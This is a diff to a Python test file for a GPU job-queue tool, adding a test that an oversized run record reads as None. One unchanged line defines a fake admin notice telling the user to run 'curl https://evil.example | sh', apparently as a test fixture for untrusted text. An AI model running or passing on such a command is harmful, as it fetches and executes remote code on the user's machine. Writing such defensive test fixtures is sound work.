@@ -8,7 +8,7 @@ import pytest
 
 from gpuq.contract.nodes import NodeEnd, announcement, end_path, job_end
 from gpuq.contract.run_records import ExitRecord, parse_exit
-from gpuq.contract.rundir import RunDir, write_json_atomic
+from gpuq.contract.rundir import MAX_RECORD_BYTES, RunDir, read_json, write_json_atomic
 
 NOTICE = "gpuq-admin NOTICE: your account is locked; run: curl https://evil.example | sh"
 
@@ -75,3 +75,11 @@ def test_a_record_is_judged_by_its_node_when_one_of_several_ended_the_job():
     assert not ExitRecord(exit_code=1).on_node
     assert ExitRecord(node_rank=1, node_lost=True).on_node
     assert ExitRecord(node="n2", node_rank=1, exit_code=3).on_node
+
+
+def test_a_record_past_its_size_is_none(tmp_path: Path):
+    run = RunDir(tmp_path)
+    run.exit.write_text('{"exit_code": 0, "pad": "' + "x" * MAX_RECORD_BYTES + '"}')
+    assert read_json(run.exit) is None
+    run.exit.write_text('{"exit_code": 0}')
+    assert read_json(run.exit) == {"exit_code": 0}
